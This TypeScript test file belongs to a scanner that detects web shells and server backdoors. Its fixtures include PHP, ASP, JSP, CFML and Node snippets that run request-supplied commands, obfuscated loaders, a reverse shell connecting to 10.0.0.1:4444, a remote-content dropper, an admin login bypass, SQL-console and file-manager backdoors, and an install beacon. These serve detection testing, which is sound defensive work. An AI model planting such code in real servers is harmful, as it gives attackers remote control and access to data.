/**
 * Behaviours added to close generalization gaps: callbacks named by the request,
 * superglobals reached by name, register_globals-era variables, request getters, the
 * file's own decoders, file managers, SQL consoles, script droppers, JSP reflection by
 * byte arrays, CFML scope lookup. Every fixture is written for this test and is inert
 * text; each positive has a nearby negative shaped like ordinary application code.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons, scanText } from './helpers.js';
import { CallIndex } from '../../src/scan/context.js';
import { blankStrings, stripComments, PHP_LEX } from '../../src/scan/lexer.js';

test('php: a callback named by a request variable (register_shutdown_function, array_filter)', () => {
  const f = findingOf('cb.php', `<?php\n$e = $_REQUEST['e'];\nregister_shutdown_function($e, $_REQUEST['p']);\n`);
  assert.equal(f?.verdict, 'malicious');
  assert.deepEqual(reasons(f), ['request-derived variable chooses the function register_shutdown_function() calls']);
  const g = findingOf('cb2.php', `<?php\n$e = $_REQUEST['e'];\n$arr = array($_POST['p']);\narray_filter($arr, $e);\n`);
  assert.deepEqual(reasons(g), ['request-derived variable chooses the function array_filter() calls']);
});

test('php: a request value used as an array index to pick a registered handler is not that reason', () => {
  const code = `<?php\n$importer = $_GET['import'];\nif (!isset($importers[$importer])) die('unknown');\ncall_user_func($importers[$importer][2]);\n`;
  assert.ok(!reasons(findingOf('router.php', code)).includes('request-derived variable chooses the function call_user_func() calls'));
});

test('php: dangerous callbacks in the last slot and in filter_var(FILTER_CALLBACK)', () => {
  assert.deepEqual(reasons(findingOf('u.php', `<?php array_udiff_assoc(array($_REQUEST['p']), array(1), "assert");`)), ['array_udiff_assoc() calls assert as a callback']);
  const f = findingOf('fv.php', `<?php filter_var($_REQUEST['p'], FILTER_CALLBACK, array('options' => 'assert'));`);
  assert.deepEqual(reasons(f), ['filter_var() calls assert as a callback']);
  // an ordinary sanitizing callback is fine
  assert.equal(findingOf('ok.php', `<?php $n = filter_var($_GET['n'], FILTER_CALLBACK, array('options' => 'trim'));`), undefined);
});

test('php: superglobal name built with XOR and called through ${...}[...]', () => {
  const f = findingOf('x.php', `<?php\n@$_++;\n$__ = ("#"^"|");\n$__ .= ("."^"~");\n$__ .= ("/"^"\`");\n$__ .= ("|"^"/");\n$__ .= ("{"^"/");\n\${$__}[!$_](\${$__}[$_]);\n`);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('request input names the function to call'));
});

test('php: request parameters imported by hand through variable variables', () => {
  const code = `<?php
class T { function __construct($f, $v) { $f($v); } }
foreach (array('_POST') as $r) {
  foreach ($$r as $k => $v) { $$k = $v; }
}
$t = new ReflectionClass('T');
$t->newInstance($k, $$k);
`;
  const f = findingOf('vv.php', code);
  assert.equal(f?.verdict, 'malicious');
  assert.deepEqual(reasons(f), [
    'request parameters imported as variables and a variable is called as a function',
    'tiny script hands request input to a function whose name it computes at runtime (one-line loader)',
    'superglobal (request) array reached by name through a variable variable',
  ]);
});

test('php: register_globals-era command variable that is never assigned', () => {
  const f = findingOf('rg.php', `<?php\nif ($cmd != "") {\n  echo "<pre>";\n  system($cmd);\n}\n?>\n<form method="post"><input name="cmd"></form>`);
  assert.deepEqual(reasons(f), ['system() runs a variable that is never assigned (register_globals request variable $cmd)', 'runs OS commands (system)']);
  assert.equal(f?.verdict, 'malicious');
  // parameters, list() targets and by-reference outputs are assigned
  const ok = `<?php
function run($command) { passthru($command, $exitCode); return $exitCode; }
list($id, $extra) = json_decode(file_get_contents('job.json'), true);
if (!empty($extra)) { eval($extra); }
`;
  assert.ok(!reasons(findingOf('ok.php', ok)).some((r) => r.includes('never assigned')));
});

test('php: a function that returns request data is a request source', () => {
  const f = findingOf('g.php', `<?php\nfunction x() { return "/*a*/" . $_POST['a'] . "/*b*/"; }\neval(x());\n`);
  assert.equal(f?.verdict, 'malicious');
  assert.deepEqual(reasons(f), ['request input reaches eval()']);
});

test("php: eval of a long literal run through the file's own decoder", () => {
  const lit = 'Ifmmp-!uijt!jt!b!mpoh!fodpefe!tusjoh!uibu!pomz!b!efdpefs!xjmm!sfbe!boe!uif!fwbm!svot!ju!jo!uif!tbnf!gjmf!ifsf';
  const code = `<?php\nfunction d($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= chr(ord($s[$i]) - 1); } return $o; }\neval(d('${lit}'));\n`;
  const f = findingOf('d.php', code);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes("eval() of a long literal decoded by the file's own function d()"));
  // a short literal through a formatting helper is not a payload
  assert.equal(findingOf('t.php', `<?php\nfunction label($s) { return ucfirst($s); }\necho label('name');\n`), undefined);
});

test('php: preg_filter and escaped /e modifiers, reflection, YAML and XSLT callbacks', () => {
  assert.deepEqual(reasons(findingOf('p.php', `<?php preg_filter('|.*|e', $_REQUEST['x'], '');`)), ['regex replace with the /e modifier evaluates its replacement as PHP']);
  assert.deepEqual(reasons(findingOf('q.php', `<?php preg_replace("/./\\x65", $_POST["v"], ".");`)), ['regex replace with the /e modifier evaluates its replacement as PHP']);
  assert.equal(findingOf('r.php', `<?php echo preg_replace('/\\s+/u', ' ', $_GET['q']);`), undefined);
  assert.deepEqual(reasons(findingOf('rf.php', `<?php $f = new ReflectionFunction("system"); echo $f->invokeArgs(array($_GET['c']));`)), ['system invoked through reflection']);
  const y = findingOf('y.php', `<?php $p = yaml_parse($doc, 0, $n, array("!{$_REQUEST['t']}" => 'preg_replace'));`);
  assert.deepEqual(reasons(y), ['yaml_parse() maps a YAML tag to preg_replace() as a callback']);
  const x = findingOf('xs.php', `<?php\n$xsl = '<xsl:value-of select="php:function(\\'assert\\', string(.))"/>';\n$p = new XSLTProcessor();\n$p->registerPHPFunctions();\n`);
  assert.deepEqual(reasons(x), ['XSLT stylesheet calls PHP assert() through registerPHPFunctions()']);
});

test('php: upload stored under the folder and name the client sent', () => {
  const f = findingOf('up.php', `<?php\n$n = $_FILES['f']['name'];\n$dest = $_POST['dir'] . '/' . $n;\nmove_uploaded_file($_FILES['f']['tmp_name'], $dest);\n`);
  // a few lines with no type or extension check anywhere: an uploader (php-recall.test.ts)
  assert.deepEqual(reasons(f), ['small script stores an upload under the client-chosen name with no type or extension check (uploader)']);
  // a generated name with a fixed extension is what applications do
  const ok = `<?php\n$dest = UPLOAD_DIR . '/' . bin2hex(random_bytes(8)) . '.jpg';\nmove_uploaded_file($_FILES['f']['tmp_name'], $dest);\n`;
  assert.equal(findingOf('ok.php', ok), undefined);
});

test('asp: assignments right after <% and a request-driven file manager through a Sub', () => {
  assert.deepEqual(reasons(findingOf('a.asp', '<%Y=request("x")%> <%execute(Y)%>')), ['request-derived variable reaches execute']);
  const fm = `<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
p = Request("path")
Call Walk(p)
Sub Walk(dir)
  Set f = fso.GetFolder(dir)
  If Request("del") <> "" Then fso.DeleteFile dir & "\\" & Request("del")
End Sub
%>`;
  const f = findingOf('fm.asp', fm);
  assert.deepEqual(reasons(f), ['request chooses file-system paths the page passes to getfolder, deletefile (file manager)']);
  // listing a folder the request names and deleting in it: a file manager, no include of an application around it
  assert.equal(f?.verdict, 'malicious');
});

test('asp: request content written into a fixed .asp file (dropper)', () => {
  const code = `<%
If Request("txt") <> "" Then
shell = Request("txt")
Set fo = Server.CreateObject("Scripting.FileSystemObject")
Set tf = fo.CreateTextFile(Server.MapPath("next.asp"))
tf.Write(shell)
End If
%>`;
  const f = findingOf('w.asp', code);
  assert.equal(f?.verdict, 'malicious');
  assert.deepEqual(reasons(f), ['request content written into a server-script file']);
  // echoing the value back to the page is not a file write
  assert.equal(findingOf('echo.asp', '<%\nmsg = Request("m")\nResponse.Write Server.HTMLEncode(msg)\n%>'), undefined);
});

test('aspx: SQL console (connection string and SQL both from form fields)', () => {
  const code = `<%@ Page Language="C#" %>
<script runat="server">
void Run(object s, EventArgs e) {
  SqlConnection c = new SqlConnection();
  c.ConnectionString = txtConnection.Text;
  c.Open();
  SqlCommand cmd = new SqlCommand(txtSql.Text, c);
  grid.DataSource = cmd.ExecuteReader();
}
</script>`;
  const f = findingOf('sql.aspx', code);
  assert.deepEqual(reasons(f), ['request chooses the database connection and the SQL it runs (database client backdoor)']);
  // the requester's server and statements (xp_cmdshell, INTO OUTFILE): a complete path, malicious
  assert.equal(f?.verdict, 'malicious');
  const ok = `<%@ Page Language="C#" %>
<script runat="server">
void Find(object s, EventArgs e) {
  SqlConnection c = new SqlConnection(ConfigurationManager.ConnectionStrings["main"].ConnectionString);
  SqlCommand cmd = new SqlCommand("SELECT name FROM users WHERE id = @id", c);
  cmd.Parameters.AddWithValue("@id", txtId.Text);
}
</script>`;
  assert.equal(findingOf('ok.aspx', ok), undefined);
});

test('jsp: evaluator fed a parameter, names hidden as byte arrays, java.beans reflection, file manager', () => {
  assert.deepEqual(reasons(findingOf('j.jsp', '<%=jdk.jshell.JShell.builder().build().eval(request.getParameter("src"))%>')), ['request input reaches an evaluator .eval()']);
  const b = findingOf('b.jsp', '<% Class rt = Class.forName(new String(new byte[] { 106, 97, 118, 97, 46, 108, 97, 110, 103, 46, 82, 117, 110, 116, 105, 109, 101 })); %>');
  assert.ok(reasons(b).includes('class or method name "java.lang.Runtime" hidden as a byte array'));
  const e = findingOf(
    'e.jsp',
    '<%@ page import="java.beans.Expression" %>\n<%\nString cmd = request.getParameter("cmd");\nExpression ex = new Expression(Runtime.getRuntime(), "exec", new Object[]{cmd});\nProcess p = (Process) ex.getValue();\n%>',
  );
  assert.equal(e?.verdict, 'malicious');
  assert.ok(reasons(e).includes('request-derived variable reaches a reflective method call (java.beans)'));
  const fm =
    '<%@ page import="java.io.*" %>\n<%\nFile f = new File(request.getParameter("file"));\nif (f.isDirectory()) { for (File x : f.listFiles()) out.println(x.getName()); }\nelse { InputStream in = new FileInputStream(f); }\n%>';
  assert.deepEqual(reasons(findingOf('list.jsp', fm)), ['request chooses file-system paths the page passes to file, fileinputstream, listfiles (file manager)']);
});

test('cfml: unscoped #var# resolved from FORM in cfexecute, and a cfquery SQL console', () => {
  const f = findingOf('c.cfm', '<cfif IsDefined("FORM.cmd")>\n<cfexecute name="cmd.exe" arguments="/c #cmd#" timeout="5"></cfexecute>\n</cfif>');
  assert.deepEqual(reasons(f), ['request input reaches cfexecute', 'OS command execution in a page that reads request input']);
  const q = findingOf('q.cfm', '<cfif isdefined("form.sql")>\n<cfquery name="r" datasource="#form.ds#">\n#form.sql#\n</cfquery>\n</cfif>');
  assert.equal(q?.verdict, 'malicious');
  assert.ok(reasons(q).includes('request chooses the database connection and the SQL it runs (database client backdoor)'));
  // an application query with a bound form value is normal
  assert.equal(
    findingOf('ok.cfm', '<cfquery name="u" datasource="app">\nSELECT * FROM users WHERE id = <cfqueryparam value="#form.id#" cfsqltype="cf_sql_integer">\n</cfquery>'),
    undefined,
  );
});

test('perl: CGI file browser driven by a query parameter', () => {
  const code = '#!/usr/bin/perl\nmy %FORM = parse($ENV{QUERY_STRING});\nmy $path = $FORM{path};\nopendir(DIR, $path) || print "no";\nopen(FILE, "< $path");\n';
  assert.deepEqual(reasons(findingOf('list.pl', code)), ['request chooses file-system paths the page passes to opendir, open (file manager)']);
});

test('call index: names, variable calls, and offsets of the parenthesis', () => {
  const idx = new CallIndex("echo strlen ($a); $f('x'); obj->exec(1); \\ns\\system(2);".toLowerCase());
  assert.deepEqual(idx.get('strlen'), [{ at: 5, open: 12 }]);
  assert.deepEqual(idx.get('$'), [{ at: 18, open: 20 }]);
  assert.equal(idx.has('exec'), true);
  assert.deepEqual(
    idx.sites(['system', 'exec']).map((s) => s.name),
    ['exec', 'system'],
  );
  assert.equal(idx.has('echo'), false);
});

test('lexer: string skipping with escapes keeps offsets and blanks only comments', () => {
  const src = `<?php $a = "x\\"//y"; // note\n$b = 'it\\'s'; # more\n`;
  const out = stripComments(src, PHP_LEX);
  assert.equal(out.length, src.length);
  assert.equal(out, `<?php $a = "x\\"//y";        \n$b = 'it\\'s';       \n`);
  assert.equal(blankStrings(`f("a\\"b", 'c') . "";`, '\'"'), `f("    ", ' ') . "";`);
});

test('language: browser bundles with require/module.exports are not analyzed as Node', () => {
  const bundle = '(function(){ if (typeof module === "object") module.exports = f; var r = require("./x"); eval("1"); })();';
  assert.equal(scanText('lib/chart.min.js', bundle)[0]!.analyzed, false);
  const shell = 'const { exec } = require("child_process");\nrequire("http").createServer((req, res) => exec(req.url.slice(1), (e, o) => res.end(o))).listen(8080);\n';
  const out = scanText('srv.js', shell)[0]!;
  assert.equal(out.language, 'node');
  assert.equal(out.finding?.verdict, 'malicious');
});

test('php: directory browser through a function parameter, mass mailer, SQL console, password gate', () => {
  const fm = `<?php
function listDir($d) { foreach (scandir($d) as $e) echo $e, "\\n"; }
if (isset($_GET['dir'])) listDir($_GET['dir']);
if (isset($_GET['del'])) unlink($_GET['del']);
`;
  assert.deepEqual(reasons(findingOf('fm.php', fm)), ['request chooses file-system paths the page passes to scandir, unlink (file manager)']);
  // the same operations behind a capability/nonce check are an application's editor
  const guarded = `<?php\ncheck_admin_referer('delete-file');\nif (current_user_can('edit_files')) unlink($_POST['file']);\nforeach (scandir($_POST['dir']) as $e) echo esc_html($e);\n`;
  assert.equal(findingOf('guarded.php', guarded), undefined);
  const mailer = `<?php
$to = explode("\\n", $_POST['emails']);
foreach ($to as $addr) { mail(trim($addr), $_POST['subject'], $_POST['html'], "From: " . $_POST['from']); }
`;
  assert.deepEqual(reasons(findingOf('m.php', mailer)), ['mails every line of a request-supplied address list in a loop, subject and body from the request too (bulk mailer)']);
  const sql = `<?php\n$c = mysql_connect($_POST['host'], $_POST['user'], $_POST['pass']);\n$r = mysql_query($_POST['sql'], $c);\n`;
  // (the existing recon hint also notes a database login taken from the request)
  assert.deepEqual(reasons(findingOf('sql.php', sql)), [
    'request chooses the database connection and the SQL it runs (database client backdoor)',
    'system reconnaissance / shell user-interface features',
  ]);
  const gate = `<?php\nif (md5($_GET['k']) == '5f4dcc3b5aa765d61d8327deb882cf99') { include('admin.inc'); }\n`;
  assert.deepEqual(reasons(findingOf('g.php', gate)), []);
  assert.equal(findingOf('g.php', gate), undefined);
  const f = scanText('g2.php', gate + `mail($_GET['to'], $_GET['s'], $_GET['b']);\n`)[0]!.finding;
  assert.deepEqual(reasons(f), ['sends mail with recipient and content taken from the request', 'request parameter checked against a hard-coded hash (backdoor password gate)']);
});

test('php: goto-maze obfuscation with escaped strings is folded into a readable layer', () => {
  const esc = (s: string): string => [...s].map((c) => '\\x' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
  const labels = Array.from({ length: 24 }, (_v, i) => `L${i}`);
  const maze = labels.map((l, i) => `${l}: echo "${esc('part ' + i)}"; goto ${labels[i + 1] ?? 'END'};`).join(' ');
  const code = `<?php\ngoto L0; ${maze} END: $f = "${esc('system')}"; $f($_POST["${esc('c')}"]);\n`;
  const f = findingOf('yak.php', code);
  assert.equal(f?.verdict, 'malicious');
  const rs = reasons(f);
  assert.ok(rs.includes('control flow scrambled with goto jumps (25)'));
  assert.ok(rs.includes('a variable holding a dangerous function name is called'));
  // a library with a handful of byte-string escapes is not folded or flagged
  assert.equal(findingOf('utf8.php', `<?php\nfunction bom() { return "\\xEF\\xBB\\xBF"; }\n$dash = "\\xe2\\x80\\x94";\n`), undefined);
});

test('php: register_globals-era file manager (paths from variables nothing assigns)', () => {
  const code = `<?php
if ($sil) { unlink("$dizin/$sil"); }
if ($klasor) { mkdir("$dizin/$klasor", 0777); }
$h = opendir($dizin);
while ($e = readdir($h)) echo $e;
`;
  assert.deepEqual(reasons(findingOf('fm.php', code)), ['file operations (unlink, mkdir, opendir) on paths from never-assigned register_globals request variables (file manager)']);
  // an included template whose variables come from the including file is not flagged
  const tpl = `<?php\nrequire_once __DIR__ . '/config.php';\n$h = opendir($dir);\nif ($old) unlink("$dir/$old");\n`;
  assert.equal(findingOf('tpl.php', tpl), undefined);
});

test('node: an HTTP handler that opens sockets to a host and port from request headers (tunnel)', () => {
  const code = `var http = require('http');
var net = require('net');
http.createServer(function (req, res) {
  var host = req.headers['x-target'];
  var port = parseInt(req.headers['x-port']);
  var s = new net.Socket();
  s.connect(port, host);
  req.pipe(s); s.pipe(res);
}).listen(8000);
`;
  const f = findingOf('tunnel.js', code);
  assert.deepEqual(reasons(f), ['request input chooses a network host/port to connect to (tunnel)']);
  assert.equal(f?.verdict, 'suspicious');
});

test('asp: Execute of a decoded variable followed by more statements on the same line', () => {
  const code = '<%\nOn Error Resume Next\nif session("k")="" then:session("k")=dec(k):end if:k=session("k"):execute k:check(err):function dec(s):dec=s:end function\n%>';
  assert.deepEqual(reasons(findingOf('x.asp', code)), ['execute of dynamic code']);
  assert.equal(findingOf('x.asp', code)?.verdict, 'suspicious');
});

test('php: web-root defacement dropper and an administrator login without a password', () => {
  const drop = `<?php
function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }
$target = $_SERVER['DOCUMENT_ROOT'] . "/index.html";
$h = fopen($target, "w");
fwrite($h, get("http://example.invalid/page.txt"));
`;
  assert.deepEqual(reasons(findingOf('d.php', drop)), ['writes content fetched from the web into the web root (defacement / dropper)']);
  const bypass = `<?php
require('../../../wp-blog-header.php');
foreach (get_users() as $u) {
  if (user_can($u->ID, 'administrator')) { wp_set_current_user($u->ID); wp_set_auth_cookie($u->ID); break; }
}
`;
  assert.deepEqual(reasons(findingOf('b.php', bypass)), ['logs in as an administrator without checking a password (authentication bypass)']);
  // the real login flow checks the password first
  const login = `<?php\n$user = wp_signon(array('user_login' => $l, 'user_password' => $p));\nif (!is_wp_error($user) && user_can($user, 'administrator')) wp_set_auth_cookie($user->ID);\n`;
  assert.equal(findingOf('login.php', login), undefined);
});

test('php: an install beacon mails the server location to a free-mail box; a contact form mailing the site owner does not count', () => {
  const beacon = `<?php $to = "someone.123@gmail.com"; $body = $_SERVER['HTTP_HOST'] . "\\n" . $_SERVER['SCRIPT_FILENAME']; mail($to, "new", $body); echo "ok";`;
  assert.deepEqual(reasons(findingOf('b.php', beacon)), ["mails this server's host name and script location to a free-mail address (someone.123@gmail.com): install beacon"]);
  const contact = `<?php $body = "From " . $_SERVER['REMOTE_ADDR'] . " on " . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'] . ": " . strip_tags($_POST['msg']); mail("webmaster@example.org", "Contact form", $body);`;
  assert.equal(findingOf('c.php', contact), undefined);
});

test('php: a "hacked by" page written over the front page is defacement; an empty index.html guard is not', () => {
  const deface = `<?php $fp = fopen("index.php", "w"); fputs($fp, "HACKed by nobody"); fclose($fp);`;
  assert.deepEqual(reasons(findingOf('d.php', deface)), ['overwrites the site\'s front page with a "hacked by" message (defacement)']);
  const guard = `<?php // stops directory listing in the upload folder\n$fp = fopen("uploads/index.html", "w"); fwrite($fp, ""); fclose($fp);`;
  assert.equal(findingOf('e.php', guard), undefined);
});

test('jsp: reflection on a request parameter inside an EL expression, with no scriptlet', () => {
  const el =
    '<%@ page isELIgnored="false" %>${"".getClass().forName("java.lang.Runtime").getMethod("exec","".getClass()).invoke("".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null),param.cmd)}';
  assert.deepEqual(reasons(findingOf('el.jsp', el)), ['request input reaches reflection or process execution inside a JSP EL expression']);
  assert.equal(findingOf('ok.jsp', '<%@ page contentType="text/html" %><p>Hello ${fn:escapeXml(param.name)}, you have ${sessionScope.cart.count} items</p>'), undefined);
});

test('php: a browsing proxy fetches request-chosen URLs and routes their links back through itself', () => {
  const proxy = `<?php
$url = isset($_GET["u"]) ? $_GET["u"] : "";
$fp = fopen($url, "rb");
$page = stream_get_contents($fp);
$page = preg_replace("/(href=['\\"])(http[^'\\"]+)/", "\\\\1" . $_SERVER["PHP_SELF"] . "?u=" . "\\\\2", $page);
echo $page;
`;
  assert.ok(reasons(findingOf('p.php', proxy)).includes('browsing proxy: fetches request-chosen URLs and rewrites their links to come back through itself'));
  // a pager linking to itself with its own parameter fetches nothing
  const pager = `<?php
$page = (int) $_GET["p"];
$html = str_replace("{next}", "<a href='" . $_SERVER["PHP_SELF"] . "?p=" . ($page + 1) . "'>next</a>", file_get_contents("tpl/list.html"));
echo $html;
`;
  assert.ok(!reasons(findingOf('q.php', pager)).some((r) => r.startsWith('browsing proxy')));
});

test('php: commands read from a socket and run are a reverse shell; a socket client that runs a fixed command is not', () => {
  const rev = `<?php\n$s = fsockopen("10.0.0.1", 4444);\nwhile (!feof($s)) {\n  $c = trim(fgets($s, 1024));\n  fputs($s, shell_exec($c));\n}\n`;
  assert.ok(reasons(findingOf('r.php', rev)).includes('runs commands read from a network socket (reverse or bind shell)'));
  const ok = `<?php\n$s = fsockopen("smtp.example.com", 25);\n$greeting = fgets($s, 512);\n$uptime = shell_exec("uptime");\nfputs($s, "HELO " . gethostname() . "\\r\\n");\n`;
  assert.ok(!reasons(findingOf('s.php', ok)).includes('runs commands read from a network socket (reverse or bind shell)'));
});

test('jsp and aspx: a process method reached by reflection and invoked with request data', () => {
  const jsp = `<%\nObject rt = Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null);\nClass.forName("java.lang.Runtime").getMethod("exec", String.class).invoke(rt, request.getParameter("c"));\n%>`;
  assert.ok(reasons(findingOf('r.jsp', jsp)).includes('request input reaches a method invoked through reflection'));
  const aspx = `<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  var t = Type.GetType("System.Diagnostics.Process");\n  t.GetMethod("Start", new Type[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + Request.QueryString["c"] });\n}\n</script>`;
  assert.equal(findingOf('r.aspx', aspx)?.verdict, 'malicious');
  // reflection on a fixed call leaves the capability reason alone
  const fixed = jsp.replace('request.getParameter("c")', '"uptime"');
  assert.ok(!reasons(findingOf('f.jsp', fixed)).includes('request input reaches a method invoked through reflection'));
});
